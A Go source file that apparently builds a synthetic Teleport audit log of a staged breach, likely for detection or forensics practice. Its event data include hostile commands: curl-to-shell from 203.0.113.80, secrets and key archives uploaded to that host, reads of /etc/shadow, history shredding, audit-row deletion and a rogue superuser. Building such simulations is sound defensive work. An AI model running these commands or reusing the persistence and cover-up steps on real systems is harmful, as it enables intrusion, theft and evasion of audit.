package main

import (
	"time"

	apievents "github.com/gravitational/teleport/api/types/events"
)

// attackDay is the Friday on which everything happens.
const attackDay = 20

// prodRoot and dbAdmin are what the two granted requests add.
var (
	prodRoot = []string{"prod-root"}
	dbAdmin  = []string{"db-admin"}
	asRoot   = []string{"root"}
)

// attack tells the incident, one act after the other. The truth file says the
// same in words and numbers; it was written first.
func attack(l *ledger, casts map[string]cast) {
	guess(l)
	dana := stolen(dana)
	getIn(l, dana, casts[sidRecon])
	danaRoot := takeRoot(l, dana)
	rootOnDB(l, danaRoot, casts[sidRoot])
	stayIn(l, danaRoot)
	spread(l, casts[sidLost])
	loot(l, danaRoot)
	cover(l, danaRoot)
}

// guess is the password guessing that fails, before the phish that does not.
func guess(l *ledger) {
	for _, try := range []struct {
		clock string
		who   *person
	}{
		{"21:31:04.102", dana},
		{"21:31:09.480", others[1]}, // bob
		{"21:31:15.077", others[2]}, // erin
		{"21:31:20.913", carol},
		{"21:33:41.256", dana},
		{"21:33:47.640", omar},
		{"21:38:02.318", dana},
		{"21:38:08.775", others[1]},
		{"21:38:14.209", others[2]},
		{"21:42:55.531", dana},
		{"21:46:30.884", dana},
	} {
		l.refused(at(attackDay, try.clock), stolen(try.who), agentGuess)
	}
}

// getIn is the first log-in by the wrong hands, and looking around.
func getIn(l *ledger, dana hands, recon cast) {
	l.webLogin(at(attackDay, "21:52:11.418"), dana)
	l.search(at(attackDay, "21:52:49.730"), dana, "prod-root", "node")
	l.tshLogin(at(attackDay, "21:53:02.655"), dana)
	l.interactive(at(attackDay, "21:53:30.266"), dana, recon.shell(sidRecon, "ubuntu", jump1))
	l.put(at(attackDay, "21:57:40.019"), "auth", "T3007W", &apievents.AuthAttempt{
		UserMetadata: dana.as("root"), ConnectionMetadata: l.from(dana, db1, "ssh"),
		Status: apievents.Status{Error: `ssh: principal "root" not in the set of valid principals for given certificate: ["ubuntu" "deploy" "-teleport-internal-join"]`},
	})
	l.queryDenied(at(attackDay, "21:58:02.341"), dana, "postgres")
	l.put(at(attackDay, "21:58:44.903"), "privilege_token.create", "T6002I", &apievents.UserTokenCreate{
		ResourceMetadata: apievents.ResourceMetadata{Name: dana.name, Expires: at(attackDay, "22:03:44.903"), TTL: "5m0s"},
		UserMetadata:     dana.user(),
	})
	l.addMFA(at(attackDay, "21:58:58.240"), dana, phoneTwo)
	l.kubeCert(at(attackDay, "21:59:29.812"), dana)
	l.kubeRequest(at(attackDay, "21:59:31.076"), dana, "GET", "prod", "secrets", "", 403)
	l.exec(at(attackDay, "22:00:20.547"), dana, "deploy", app1, "id; uname -a; cat /etc/os-release", 0)
	l.exec(at(attackDay, "22:00:41.902"), dana, "ubuntu", app1, "cat /etc/shadow", 1)
}

// takeRoot is the pair of accounts that approve each other's requests.
func takeRoot(l *ledger, dana hands) hands {
	l.request(at(attackDay, "22:01:10.904"), dana, reqDana, "prod-root", "INC-2231 disk full on db-1")
	omar := stolen(omar)
	l.refused(at(attackDay, "22:02:18.260"), omar, omar.web)
	l.webLogin(at(attackDay, "22:02:41.530"), omar)
	l.review(at(attackDay, "22:03:05.716"), omar, reqDana, "APPROVED", "ok", at(attackDay+1, "10:01:10.904"))
	dana = dana.with(reqDana, prodRoot, asRoot)
	l.reissue(at(attackDay, "22:03:22.188"), dana)

	l.request(at(attackDay, "22:04:10.377"), omar, reqOmar, "db-admin", "INC-2231 ledger locks")
	l.review(at(attackDay, "22:04:36.940"), dana, reqOmar, "APPROVED", "go", at(attackDay+1, "10:04:10.377"))
	l.reissue(at(attackDay, "22:04:50.204"), omar.with(reqOmar, dbAdmin, nil))
	return dana
}

// rootOnDB is the root session on the database host and what left it.
func rootOnDB(l *ledger, dana hands, root cast) {
	const dump = "/srv/backup/ledger-2026-11-20.sql.gz"
	l.interactive(at(attackDay, "22:06:30.518"), dana, root.shell(sidRoot, "root", db1))
	l.sftp(at(attackDay, "22:12:20.118"), dana, "root", db1, apievents.SFTPAction_STAT, "TS015I", dump, 0)
	l.sftp(at(attackDay, "22:12:20.131"), dana, "root", db1, apievents.SFTPAction_OPEN, "TS001I", dump, sftpRead)
	l.moved(at(attackDay, "22:12:51.667"), dana, "root", db1, dump, 48_211_044, 0)
	l.exec(at(attackDay, "22:13:20.390"), dana, "root", db1, `find / -xdev \( -name "*.pem" -o -name "id_*" \) 2>/dev/null`, 0)
}

// stayIn makes what outlives the log-in: a token and a node, a role, a user.
func stayIn(l *ledger, dana hands) {
	const week = 7 * 24 * time.Hour
	made := at(attackDay, "22:14:12.760")
	l.joinToken(made, dana, rogueToken, week)
	l.joined(at(attackDay, "22:16:40.655"), host{id: rogueHost, name: "web-7", addr: lootAddr}, rogueToken, made.Add(week))
	l.roleChange(at(attackDay, "22:18:05.128"), dana, "role.created", "T9000I", "diag-read")
	l.roleChange(at(attackDay, "22:18:31.644"), dana, "role.updated", "T9002I", "diag-read")
	l.createUser(at(attackDay, "22:19:20.311"), dana, svcMetrics.name, "access")
	l.userChange(at(attackDay, "22:20:02.058"), dana, "user.update", "T1003I", svcMetrics.name, svcMetrics.roles...)
	svc := stolen(svcMetrics)
	l.addMFA(at(attackDay, "22:20:47.019"), svc, svcMetrics.mfa)
	l.webLogin(at(attackDay, "22:21:15.463"), svc)
	l.listAdd(at(attackDay, "22:22:30.482"), dana, "prod-admins", svcMetrics.name, "metrics rollout")
}

// spread is what the new account does with the list's roles.
func spread(l *ledger, lost cast) {
	svc := stolen(svcMetrics)
	svc.extraRoles = []string{"prod-admin"}
	l.tshLogin(at(attackDay, "22:22:58.771"), svc)
	for _, c := range []struct {
		clock   string
		to      host
		command string
		exit    int
	}{
		{"22:24:05.336", app2, "curl -fsS http://203.0.113.80/i.sh | sh", 0},
		{"22:25:12.801", web1, "cat /etc/shadow", 0},
		{"22:26:40.177", vault1, "tar czf /tmp/.m.tgz /srv/secrets /etc/ssl/private", 2},
		{"22:27:05.690", vault1, "tar czf /tmp/.m.tgz /srv/secrets", 0},
		{"22:28:11.254", vault1, "curl -fsS -T /tmp/.m.tgz http://203.0.113.80/u/", 0},
		{"22:28:39.908", vault1, "rm -f /tmp/.m.tgz; shred -u ~/.bash_history; history -c", 0},
	} {
		l.exec(at(attackDay, c.clock), svc, "root", c.to, c.command, c.exit)
	}
	l.scpDownload(at(attackDay, "22:29:20.415"), svc, "root", web1, "/root/.ssh/id_ed25519")
	s := lost.shell(sidLost, "root", cache1)
	s.lost = true
	l.interactive(at(attackDay, "22:31:02.843"), svc, s)
}

// loot is the database, the secrets of the cluster and an application.
func loot(l *ledger, dana hands) {
	l.query(at(attackDay, "22:36:10.262"), dana, "postgres",
		"SELECT datname FROM pg_database",
		"SELECT count(*) FROM customers",
		"SELECT name, iban, email FROM customers ORDER BY id LIMIT 5000",
		"COPY (SELECT * FROM payment_methods) TO STDOUT",
		"DELETE FROM access_audit WHERE actor = 'postgres' AND at > now() - interval '1 hour'")
	l.kubeCert(at(attackDay, "22:40:58.803"), dana)
	l.kubeRequest(at(attackDay, "22:41:00.115"), dana, "GET", "prod", "secrets", "", 200)
	l.kubeRequest(at(attackDay, "22:41:12.570"), dana, "GET", "prod", "secrets", "ledger-db", 200)
	l.kubeRequest(at(attackDay, "22:41:20.944"), dana, "GET", "prod", "secrets", "tls-wildcard", 200)
	l.kubeExec(at(attackDay, "22:41:50.387"), dana, "prod", "shop-6d9f7c4b58-x2x7k", "sh -c env | sort")
	l.watched(at(attackDay, "22:43:30.152"), dana, sidRecon)
	l.openApp(at(attackDay, "22:45:15.726"), dana)
}

// cover hides the list membership, borrows a service account for a month, and
// leaves a session open.
func cover(l *ledger, dana hands) {
	l.listRemove(at(attackDay, "22:47:00.615"), dana, "prod-admins", svcMetrics.name, at(attackDay, "22:22:30.482"))

	backup := hands{person: svcBackup, addr: hostileAddr, tsh: agentTctl, impersonator: dana.name}
	id := l.identity(at(attackDay, "22:48:40.077"), backup)
	id.Expires = at(attackDay, "22:48:40").Add(30 * 24 * time.Hour)
	l.cert(at(attackDay, "22:48:40.077"), id, agentTctl)
	l.exec(at(attackDay, "22:50:10.839"), backup, "root", build1, "tar czf - /srv/backup/keys | curl -fsS -T - http://203.0.113.80/u/keys.tgz", 0)

	omar := stolen(omar).with(reqOmar, dbAdmin, nil)
	l.query(at(attackDay, "22:52:00.491"), omar, "ledger_admin",
		"CREATE ROLE reporting_ro LOGIN SUPERUSER PASSWORD 'Winter-2026!'",
		"ALTER SYSTEM SET log_statement = 'none'")
	l.forwarded(at(attackDay, "22:55:20.068"), dana, "root", jump1, vault1.addr, 8200)
	l.interactive(at(attackDay, "23:09:30.207"), dana, shell{sid: sidRunning, login: "root", to: vault1, size: "120:40", lost: true})
}
